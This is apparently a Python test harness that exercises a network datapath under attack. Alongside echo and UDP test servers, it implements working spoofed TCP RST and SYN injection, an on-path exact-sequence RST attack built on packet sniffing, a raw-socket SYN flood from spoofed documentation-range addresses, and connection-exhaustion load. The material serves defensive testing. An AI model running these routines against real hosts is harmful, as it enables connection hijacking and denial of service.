#!/usr/bin/env python3
"""Attacks on the state and the traffic that must survive them, for the
namespace tests of docs/datapath.md "Under attack".  Every call is bounded
in packets and time; addresses are the tests' documentation addresses.

  attack.py echo-server PORT SECONDS
        TCP echo on [::]:PORT (IPv4 too), one thread per connection
  attack.py stream HOST PORT SPORT SECONDS
        connect from SPORT, send a line every 20 ms and read it back for
        SECONDS; prints "ok LINES MAXGAP_MS" or "error WHAT LINES MAXGAP_MS"
        (MAXGAP: the longest wait for an echo)
  attack.py connects HOST PORT N INTERVAL TIMEOUT
        N connections INTERVAL seconds apart, each given TIMEOUT seconds to
        open and echo; prints "ok SUCCEEDED N"
  attack.py blind IFACE DMAC SRC SPORT DST DPORT NRST NSYN
        spoofed segments on a flow's 4-tuple (SRC:SPORT -> DST:DPORT): NRST
        RSTs, then NSYN SYNs, with random sequence numbers; prints the count
  attack.py exact-rst IFACE DMAC SRC SPORT DST DPORT
        waits for the next data segment SRC:SPORT -> DST:DPORT and sends the
        RST an on-path attacker could: the sender's next sequence number
  attack.py synflood IFACE DMAC DST DPORT SECONDS
        SYNs from random sources in 203.0.113.0/24 and 198.51.100.0/24 at
        the generator's full rate; prints the count
  attack.py blackhole HOST PORT SECONDS
        non-blocking connect()s to a black hole, as many as the process can
        (for an unprivileged user); prints the count
  attack.py udp-server PORT SIZE SECONDS
        answers every datagram with SIZE bytes (fragmented by the sender)
  attack.py udp-query HOST PORT QSIZE SIZE
        sends QSIZE bytes, waits 3 s for SIZE bytes; prints "ok" or "lost"
"""
import errno
import os
import random
import resource
import select
import socket
import sys
import threading
import time


def family(host):
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def dual_stack(kind):
    s = socket.socket(socket.AF_INET6, kind)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    return s


def echo_server(port, seconds):
    end = time.time() + seconds
    s = dual_stack(socket.SOCK_STREAM)
    s.bind(("::", port))
    s.listen(128)

    def serve(c):
        c.settimeout(max(1, end - time.time()))
        try:
            while True:
                b = c.recv(4096)
                if not b:
                    break
                c.sendall(b)
        except OSError:
            pass
        c.close()

    while time.time() < end:
        s.settimeout(max(0.05, end - time.time()))
        try:
            c, _ = s.accept()
        except socket.timeout:
            break
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def stream(host, port, sport, seconds):
    n, maxgap = 0, 0.0
    try:
        s = socket.socket(family(host), socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("", sport))
        s.settimeout(3)
        s.connect((host, port))
        end = time.time() + seconds
        while time.time() < end:
            t0 = time.time()
            s.sendall(b"x" * 63 + b"\n")
            got = b""
            while len(got) < 64:
                b = s.recv(64 - len(got))
                if not b:
                    raise OSError("closed by the server")
                got += b
            maxgap = max(maxgap, time.time() - t0)
            n += 1
            time.sleep(0.02)
        s.close()
        print("ok %d %d" % (n, maxgap * 1000))
    except OSError as e:
        what = errno.errorcode.get(e.errno, str(e)) if e.errno else str(e).replace(" ", "_")
        print("error %s %d %d" % (what, n, maxgap * 1000))


def connects(host, port, n, interval, timeout):
    good = 0
    for _ in range(n):
        t0 = time.time()
        try:
            with socket.create_connection((host, port), timeout=timeout) as s:
                s.sendall(b"hello\n")
                if s.recv(16):
                    good += 1
        except OSError:
            pass
        time.sleep(max(0.0, interval - (time.time() - t0)))
    print("ok %d %d" % (good, n))


def l2socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    return s


def frame(dmac, ip):
    from scapy.all import Ether
    return bytes(Ether(dst=dmac) / ip)


def ip_layer(src, dst):
    from scapy.all import IP, IPv6
    return IPv6(src=src, dst=dst) if ":" in src else IP(src=src, dst=dst)


def csum_add(cs, old, new):
    """RFC 1624: the checksum after a 16-bit word changed from old to new."""
    x = (~cs & 0xffff) + (~old & 0xffff) + new
    x = (x & 0xffff) + (x >> 16)
    x = (x & 0xffff) + (x >> 16)
    return ~x & 0xffff


def with_seq(tmpl, l4, seq):
    """The template frame with another TCP sequence number (checksum kept right)."""
    f = bytearray(tmpl)
    cs = int.from_bytes(f[l4 + 16:l4 + 18], "big")
    for i in (0, 2):
        old = int.from_bytes(f[l4 + 4 + i:l4 + 6 + i], "big")
        new = (seq >> (16 - 8 * i)) & 0xffff
        cs = csum_add(cs, old, new)
        f[l4 + 4 + i:l4 + 6 + i] = new.to_bytes(2, "big")
    f[l4 + 16:l4 + 18] = cs.to_bytes(2, "big")
    return bytes(f)


def blind(iface, dmac, src, sport, dst, dport, nrst, nsyn):
    from scapy.all import TCP
    s = l2socket(iface)
    rnd = random.Random(9)
    l4 = 14 + (40 if ":" in src else 20)
    tmpl = {fl: frame(dmac, ip_layer(src, dst) / TCP(sport=sport, dport=dport, flags=fl, seq=0, window=0))
            for fl in ("R", "S")}
    sent = 0
    for i in range(nrst + nsyn):
        s.send(with_seq(tmpl["R" if i < nrst else "S"], l4, rnd.getrandbits(32)))
        sent += 1
    print(sent)


def exact_rst(iface, dmac, src, sport, dst, dport):
    from scapy.all import TCP, sniff
    pkts = sniff(iface=iface, count=1, timeout=5,
                 lfilter=lambda p: TCP in p and p[TCP].sport == sport and p[TCP].dport == dport
                 and len(p[TCP].payload) > 0)
    if not pkts:
        print("no segment seen")
        sys.exit(1)
    t = pkts[0][TCP]
    seq = (t.seq + len(t.payload)) & 0xffffffff
    s = l2socket(iface)
    s.send(frame(dmac, ip_layer(src, dst) / TCP(sport=sport, dport=dport, flags="R", seq=seq)))
    print(seq)


def synflood(iface, dmac, dst, dport, seconds):
    from scapy.all import TCP
    rnd = random.Random(7)
    frames = []
    for i in range(8192):
        src = "%s.%d" % (rnd.choice(["203.0.113", "198.51.100"]), rnd.randrange(1, 255))
        if ":" in dst:
            src = "2001:db8:f::%x" % rnd.randrange(1, 0xffff)
        tcp = TCP(sport=rnd.randrange(1024, 65535), dport=dport, flags="S", seq=rnd.getrandbits(32))
        frames.append(frame(dmac, ip_layer(src, dst) / tcp))
    s = l2socket(iface)
    s.setblocking(False)
    end = time.time() + seconds
    sent = 0
    while time.time() < end:
        for f in frames[:1024]:
            try:
                s.send(f)
                sent += 1
            except BlockingIOError:
                select.select([], [s], [], 0.01)
        frames = frames[1024:] + frames[:1024]
    print(sent)


def blackhole(host, port, seconds):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    end = time.time() + seconds
    made, open_ = 0, []
    while time.time() < end:
        try:
            s = socket.socket(family(host), socket.SOCK_STREAM)
            s.setblocking(False)
            s.connect_ex((host, port))
            open_.append(s)
            made += 1
        except OSError:
            pass
        if len(open_) >= 2000 or (open_ and made % 2000 == 0):
            for s in open_:
                s.close()
            open_ = []
    print(made)


def udp_server(port, size, seconds):
    s = dual_stack(socket.SOCK_DGRAM)
    s.bind(("::", port))
    end = time.time() + seconds
    while time.time() < end:
        s.settimeout(max(0.05, end - time.time()))
        try:
            _, peer = s.recvfrom(65535)
        except socket.timeout:
            break
        s.sendto(b"a" * size, peer)


def udp_query(host, port, qsize, size):
    s = socket.socket(family(host), socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(b"q" * qsize, (host, port))
    try:
        b = s.recv(65535)
        print("ok" if len(b) == size else "short %d" % len(b))
    except socket.timeout:
        print("lost")


def main(a):
    cmd, args = a[0], a[1:]
    if cmd == "echo-server":
        echo_server(int(args[0]), float(args[1]))
    elif cmd == "stream":
        stream(args[0], int(args[1]), int(args[2]), float(args[3]))
    elif cmd == "connects":
        connects(args[0], int(args[1]), int(args[2]), float(args[3]), float(args[4]))
    elif cmd == "blind":
        blind(args[0], args[1], args[2], int(args[3]), args[4], int(args[5]), int(args[6]), int(args[7]))
    elif cmd == "exact-rst":
        exact_rst(args[0], args[1], args[2], int(args[3]), args[4], int(args[5]))
    elif cmd == "synflood":
        synflood(args[0], args[1], args[2], int(args[3]), float(args[4]))
    elif cmd == "blackhole":
        blackhole(args[0], int(args[1]), float(args[2]))
    elif cmd == "udp-server":
        udp_server(int(args[0]), int(args[1]), float(args[2]))
    elif cmd == "udp-query":
        udp_query(args[0], int(args[1]), int(args[2]), int(args[3]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
